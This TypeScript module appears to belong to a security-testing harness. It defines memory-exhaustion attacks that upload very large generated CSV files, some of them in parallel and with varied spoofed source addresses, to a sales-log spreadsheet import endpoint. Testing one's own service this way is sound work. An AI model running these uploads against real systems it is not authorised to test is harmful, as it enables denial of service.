// CSV files that are small to send and large in memory: very many cells, and the largest allowed number.
import { send, multipartType, inParallel, multipart, type AttackResponse, type Attack, type Target } from './target.ts'

/** @param cell the content of every cell except the first of a row */
function csv(rows: number, columns: number, cell: string): Buffer {
  const heads = ['고객사명', ...Array.from({ length: columns - 1 }, (_, at) => `열${at}`)].join(',')
  const rest = `,${cell}`.repeat(columns - 1)
  return Buffer.from(`${heads}\n${Array.from({ length: rows }, (_, row) => `n${row}${rest}`).join('\n')}\n`)
}

function upload(site: Target, table: Buffer, from: string, signal: AbortSignal): Promise<AttackResponse> {
  return send(site, {
    path: '/saleslog/regi_accounts_excel',
    body: multipart({}, 'fileup', [['a.csv', table]]),
    type: multipartType,
    token: site.token ?? undefined,
    from,
    signal,
  })
}
const attack = (name: string, count: number, net: number, make: () => Buffer): Attack => ({
  name,
  topic: 'sheets',
  requires: 'a token',
  prepare(site) {
    const table = make()
    return async (tally, signal) => {
      const started = performance.now()
      await inParallel(count, async (at) =>
        tally.add((await upload(site, table, `127.0.${net}.${at + 1}`, signal)).outcome),
      )
      return `${(table.length / 1e6).toFixed(1)} MB each, all in ${((performance.now() - started) / 1000).toFixed(1)} s`
    }
  },
})

export const sheetAttacks: Attack[] = [
  attack('a CSV of 45,000 × 150 cells', 1, 40, () => csv(45_000, 150, 'x')),
  attack('a CSV of 44,000 × 150 cells, eight times at once', 8, 41, () => csv(44_000, 150, 'xx')),
  attack('a CSV of 50,000 × 30 cells', 1, 42, () => csv(50_000, 30, '한울')),
]
